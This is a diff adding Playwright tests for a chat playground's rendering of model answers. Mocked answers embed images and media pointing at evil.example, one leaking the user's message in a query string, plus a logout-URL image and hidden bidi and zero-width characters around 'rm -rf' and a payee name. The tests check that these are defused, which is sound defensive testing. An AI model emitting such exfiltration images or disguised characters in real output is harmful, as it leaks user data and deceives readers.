@@ -1,0 +1,86 @@
+import type { Page } from '@playwright/test'
+import { HttpResponse } from 'msw'
+import { watchOrigin } from '../content/hostile-page'
+import { expect, type TestGateway, test, userOf } from '../fixtures'
+
+test.beforeEach(async ({ gateway, signIn }) => {
+  await signIn('user')
+  const me = userOf(gateway, 'user')
+  const own = gateway.db.tokens.find(({ user_id }) => user_id === me.id)
+  Object.assign(own ?? {}, { status: 1, expired_time: -1, unlimited_quota: true, models: '' })
+})
+
+/** Asks a model that answers like this; the answer's place. */
+async function answered(page: Page, gateway: TestGateway, content: string) {
+  gateway.answer('POST /v1/chat/completions', () =>
+    HttpResponse.json({ choices: [{ message: { content } }] }),
+  )
+  await page.goto('/playground')
+  await page.getByRole('combobox', { name: '模型' }).fill('gpt-4')
+  await page.getByRole('textbox', { name: '消息' }).fill('你好')
+  await page.getByRole('button', { name: '发送' }).click()
+  return page.getByRole('list', { name: '对话' }).getByRole('listitem').nth(1)
+}
+
+test('the pictures of an answer are links: nothing is fetched without a click', async ({
+  page,
+  gateway,
+  expectConsole,
+  expectViolation,
+}) => {
+  // The sanitiser takes the style away, but Chromium speaks of it.
+  expectConsole(/Applying inline style violates/)
+  expectViolation(/^style-src-attr inline $/)
+  const left = watchOrigin(page)
+  const answer = await answered(
+    page,
+    gateway,
+    [
+      '**好** ![画](https://evil.example/a.png?q=你好) ![](http://evil.example/b.png)',
+      '[![图标](//evil.example/c.png)](https://docs.example/)',
+      '<img src="https://evil.example/d.png" srcset="https://evil.example/e.png 2x">',
+      '<p background="https://evil.example/f.png" style="background:url(https://evil.example/g.png)">',
+      '![自己的](/api/user/logout) <video src="https://evil.example/h.mp4" autoplay></video>',
+    ].join('\n\n'),
+  )
+  await expect(answer.getByText('好', { exact: true })).toHaveCSS('font-weight', '700')
+  const pictures = answer.getByRole('link', { name: /^图片/ })
+  await expect(pictures).toHaveText([
+    '图片：画（evil.example）',
+    '图片：（evil.example）',
+    '图片：图标（evil.example）',
+    '图片：（evil.example）',
+  ])
+  await expect(pictures.first()).toHaveAttribute('href', 'https://evil.example/a.png?q=%E4%BD%A0%E5%A5%BD')
+  await expect(pictures.first()).toHaveAttribute('rel', 'noopener noreferrer')
+  await expect(answer.getByText('图片：自己的')).not.toHaveAttribute('href')
+  await expect(answer.locator('img')).toHaveCount(0)
+  expect(left).toEqual([])
+})
+
+test('hidden characters of an answer are shown, also while it streams', async ({ page, gateway }) => {
+  const answer = await answered(
+    page,
+    gateway,
+    '付款给 **\u202ecba\u202c**，`rm\u200b -rf`，&#x2066;，<bdo dir="rtl">321</bdo>，עברית [链接](https://a.example "\u202ex")',
+  )
+  await expect(answer.getByRole('link', { name: '链接' })).toHaveAttribute('title', '[U+202E]x')
+  for (const mark of ['U+202E', 'U+202C', 'U+200B', 'U+2066']) {
+    await expect(answer.getByText(mark, { exact: true })).toHaveAttribute('title', /不可见字符/)
+  }
+  await expect(answer.locator('bdi')).toHaveText('עברית')
+  await expect(answer.locator('[dir]')).toHaveCount(0)
+  expect(await answer.textContent()).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b]/)
+})
+
+test('an answer of ten megabytes is shown in pieces', async ({ page, gateway }) => {
+  const answer = await answered(page, gateway, `开头${'很长 '.repeat(3_500_000)}结尾`)
+  await expect(answer).toContainText('内容过长或过于复杂，按原文显示')
+  await expect(answer).toContainText('开头')
+  const more = answer.getByRole('button', { name: '显示更多' })
+  await more.click()
+  await expect(more).toContainText('20000 / 10500004')
+  const message = page.getByRole('textbox', { name: '消息' })
+  await message.fill('然后')
+  await expect(message).toHaveValue('然后')
+})
